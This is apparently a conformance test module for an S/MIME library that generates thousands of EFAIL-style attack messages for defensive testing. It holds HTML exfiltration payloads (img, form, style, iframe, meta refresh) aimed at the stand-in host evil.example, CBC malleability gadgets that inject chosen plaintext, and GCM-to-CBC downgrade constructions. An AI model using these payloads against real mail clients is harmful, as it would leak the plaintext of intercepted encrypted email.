"""Secrets carried out of envelopes: direct exfiltration, malleability gadgets, downgrades (EFAIL; RFC 8551 §6).

Mallory has intercepted a letter to Bob and sends it again inside one of her own. `Theft` is the product of what is
stolen, how it stands in her letter, through which channel it should leave and what she puts around.
"""

from __future__ import annotations

import base64
import itertools
from collections.abc import Callable
from dataclasses import dataclass, replace
from email.utils import format_datetime

from smime import oids
from smime.encrypt import ContentCipher, enveloped_data
from smime.mime import Entity, build_body, message, multipart, text_entity
from smime.sign import signed_data
from tests.conformance.attacks.cast import ALICE, MALLORY, cast
from tests.conformance.attacks.envelopes import BLOCK, Envelope, gadget
from tests.conformance.attacks.structures import leaf, signed_parts
from tests.smime.letters import encrypt, sign
from tests.smime.people import AT

SECRET = "the merger is on Friday"
CANARY = "evil.example"
CBC, GCM = ContentCipher.AES_256_CBC, ContentCipher.AES_256_GCM


def _secret(html: bool = False) -> Entity:
    return text_entity(f"<p>{SECRET}</p>", "html") if html else text_entity(SECRET, "plain")


def _sealed(entity: Entity, cipher: ContentCipher) -> Entity:
    return encrypt(entity, cast().bob.certificate, cipher=cipher)


# --- what is stolen ---------------------------------------------------------------------------------------------------

STOLEN: dict[str, Callable[[], Entity]] = {
    "cbc": lambda: _sealed(_secret(), CBC),
    "cbc html": lambda: _sealed(_secret(html=True), CBC),
    "gcm": lambda: _sealed(_secret(), GCM),
    "gcm html": lambda: _sealed(_secret(html=True), GCM),
    "signed in cbc": lambda: _sealed(sign(_secret(html=True), cast().alice), CBC),
    "signed in gcm": lambda: _sealed(sign(_secret(html=True), cast().alice), GCM),
    "opaque in gcm": lambda: _sealed(sign(_secret(), cast().alice, opaque=True), GCM),
    "triple": lambda: sign(_sealed(sign(_secret(), cast().alice), GCM), cast().alice),
    "without a type": lambda: _relabelled(_sealed(_secret(html=True), GCM), "application/octet-stream; name=smime.p7m"),
    "of the old type": lambda: _relabelled(_sealed(_secret(html=True), CBC), "application/x-pkcs7-mime"),
}  # fmt: skip


def _relabelled(entity: Entity, content_type: str) -> Entity:
    rest = [(name, value) for name, value in entity.headers if name != "Content-Type"]
    return Entity((("Content-Type", content_type), *rest), entity.body)


# --- how it stands in Mallory's letter ----------------------------------------------------------------------------------


def _beside(subtype: str) -> Callable[[Entity, Entity, Entity], Entity]:
    return lambda before, stolen, after: multipart(subtype, [before, stolen, after])


def _in_message(before: Entity, stolen: Entity, after: Entity) -> Entity:
    inner = message([("From", ALICE), ("Subject", "x")], stolen)
    return multipart("mixed", [before, Entity((("Content-Type", "message/rfc822"),), inner), after])


def _deep(before: Entity, stolen: Entity, after: Entity) -> Entity:
    return multipart("mixed", [multipart("related", [before, multipart("alternative", [stolen])]), after])


def _as_signed_part(before: Entity, stolen: Entity, after: Entity) -> Entity:
    """The first part of a signature that has none."""
    return multipart(
        "mixed", [before, signed_parts(stolen, leaf("application/pkcs7-signature", b"x")), after]
    )


def _as_third_part(before: Entity, stolen: Entity, after: Entity) -> Entity:
    return signed_parts(before, stolen, after)


PLACES = {
    **{name: _beside(name) for name in ("mixed", "related", "alternative", "parallel", "digest", "report", "x-odd")},
    "in a message": _in_message,
    "deep": _deep,
    "as a signed part": _as_signed_part,
    "as a part of a signature": _as_third_part,
}  # fmt: skip

# Everything that would ask a server for an address made of what follows.
CHANNELS = {
    "image": (f'<img src="http://{CANARY}/', '">'),
    "image, single quote": (f"<img src='http://{CANARY}/", "'>"),
    "link": (f'<a href="http://{CANARY}/', '">x</a>'),
    "form": (f'<form action="http://{CANARY}/"><textarea name="s">', "</textarea></form>"),
    "style": (f"<style>body{{background:url(http://{CANARY}/", ")}</style>"),
    "style attribute": (f'<div style="background:url(http://{CANARY}/', ')"></div>'),
    "frame": (f'<iframe src="http://{CANARY}/', '"></iframe>'),
    "base": (f'<base href="http://{CANARY}/">', ""),
    "refresh": (f'<meta http-equiv="refresh" content="0;url=http://{CANARY}/', '">'),
    "vector image": (f'<svg><image href="http://{CANARY}/', '"/></svg>'),
    "comment": ("<!--", "-->"),
    "open element": ("<plaintext>", ""),
}

AROUND: dict[str, Callable[[Entity], Entity]] = {
    "nothing": lambda entity: entity,
    "signed": lambda entity: sign(entity, cast().mallory),
    "encrypted": lambda entity: _sealed(entity, GCM),
    "encrypted, unprotected": lambda entity: _sealed(entity, CBC),
    "signed and encrypted": lambda entity: _sealed(sign(entity, cast().mallory), GCM),
}


@dataclass(frozen=True)
class Theft:
    """One letter of Mallory around one that she has stolen."""

    stolen: str
    place: str
    channel: str
    around: str

    def letter(self) -> bytes:
        opening, closing = (text_entity(half, "html") for half in CHANNELS[self.channel])
        placed = PLACES[self.place](opening, STOLEN[self.stolen](), closing)
        return send(AROUND[self.around](placed), MALLORY)


def thefts() -> list[Theft]:
    """All of them: several thousand."""
    return [Theft(*names) for names in itertools.product(STOLEN, PLACES, CHANNELS, AROUND)]


def send(entity: Entity, author: str) -> bytes:
    """A whole letter to Bob."""
    date = format_datetime(AT)
    return message(
        [("From", author), ("To", "bob@contoso.example"), ("Subject", "x"), ("Date", date)], entity
    )


# --- letters that nothing protects ------------------------------------------------------------------------------------

RICH = f'{SECRET} <a href="http://{CANARY}/a">x</a><img src="http://{CANARY}/1">'


def _broken(body: Entity) -> Entity:
    """Under Alice's signature over something else."""
    cms = signed_data(b"\r\nno\r\n", signers=[cast().alice.signing], at=AT, detached=True)
    return signed_parts(body, leaf("application/pkcs7-signature; name=smime.p7s", cms))


def _forwarded(body: Entity) -> Entity:
    inner = message([("From", ALICE)], sign(_secret(), cast().alice))
    return multipart("mixed", [body, Entity((("Content-Type", "message/rfc822"),), inner)])


UNPROTECTED: dict[str, Callable[[Entity], Entity]] = {
    "bare": lambda body: _sealed(body, CBC),
    "twice": lambda body: _sealed(_sealed(body, CBC), CBC),
    "cbc around gcm": lambda body: _sealed(_sealed(body, GCM), CBC),
    "gcm around cbc": lambda body: _sealed(_sealed(body, CBC), GCM),
    "signed outside": lambda body: sign(_sealed(body, CBC), cast().mallory),
    "signed between": lambda body: _sealed(sign(_sealed(body, CBC), cast().mallory), GCM),
    "broken signature": lambda body: _sealed(_broken(body), CBC),
    "signed beside": lambda body: _sealed(multipart("mixed", [body, sign(_secret(), cast().alice)]), CBC),
    "forwarded signed": lambda body: _sealed(_forwarded(body), CBC),
}
BODIES: dict[str, Callable[[], Entity]] = {
    "html": lambda: text_entity(RICH, "html"),
    "both": lambda: build_body(SECRET, html=RICH),
    "related": lambda: multipart("related", [text_entity(RICH, "html"), leaf("image/png; name=a.png", b"\x89PNG")]),
    "mixed": lambda: multipart("mixed", [text_entity(RICH, "html"), text_entity(RICH, "html")]),
    "alternative in mixed": lambda: multipart("mixed", [build_body(SECRET, html=RICH), text_entity("x", "plain")]),
    "xhtml": lambda: leaf("application/xhtml+xml", RICH.encode()),
}  # fmt: skip


# --- gadgets: chosen plaintext without the key --------------------------------------------------------------------------

WANTED = (
    b"Content-Type: text/html\r\n\r\n",
    f"<img src=http://{CANARY}/".encode(),
    b'Content-Type: multipart/mixed;boundary="a"\r\n\r\n--a\r\nContent-Type: text/html\r\n\r\n',
    b"\r\n\r\n<base href=//evil.example>",
)


@dataclass(frozen=True)
class Gadget:
    """Chosen blocks in front of, behind or inside of a stolen CBC ciphertext."""

    stolen: str
    wanted: int
    place: str
    kept: int

    def letter(self) -> bytes:
        entity = STOLEN[self.stolen]()
        known = entity_header(self.stolen)[:BLOCK]
        envelope = Envelope.take_apart(decoded(entity))
        blocks = gadget(envelope, known, WANTED[self.wanted])
        cut = self.kept * BLOCK
        changed = {
            "front": blocks + envelope.octets[cut:],
            "behind": envelope.octets[:-BLOCK] + blocks + envelope.octets[-2 * BLOCK :],
            "inside": envelope.octets[:cut] + blocks + envelope.octets[cut:],
        }[self.place]
        built = replace(envelope, octets=changed)
        if (
            self.place == "front"
        ):  # the first chosen block comes out clean: its predecessor is the vector itself
            built = built.with_iv(blocks[:BLOCK])
            built = replace(built, octets=changed[BLOCK:])
        return send(leaf("application/pkcs7-mime; smime-type=enveloped-data", built.put_together()), ALICE)


def entity_header(stolen: str) -> bytes:
    """What everybody guesses of the plaintext: how its header begins."""
    return {
        "cbc": _secret(),
        "cbc html": _secret(html=True),
        "signed in cbc": sign(_secret(), cast().alice),
    }[stolen].to_bytes()


def decoded(entity: Entity) -> bytes:
    """The CMS object of a base64 part."""
    return base64.b64decode(bytes(entity.body))


def gadgets() -> list[Gadget]:
    """All of them."""
    dimensions = itertools.product(
        ("cbc", "cbc html", "signed in cbc"), range(len(WANTED)), ("front", "behind", "inside"), range(6)
    )
    return [Gadget(*names) for names in dimensions]


def downgraded(content: bytes, *, tail: bytes = b"") -> bytes:
    """Authenticated ciphertext relabelled as CBC: an oracle, if anything of it were shown as more than text."""
    cms = enveloped_data(content, recipients=[cast().bob.certificate], cipher=GCM)
    envelope = Envelope.take_apart(cms)
    whole = envelope.octets[: len(envelope.octets) // BLOCK * BLOCK]
    relabelled = replace(envelope, content_type=oids.ENVELOPED_DATA, octets=whole + tail, mac=b"")
    relabelled = replace(relabelled, algorithm=replace(relabelled.algorithm, oid=oids.AES_256_CBC))
    return relabelled.with_iv(bytes(BLOCK)).put_together()
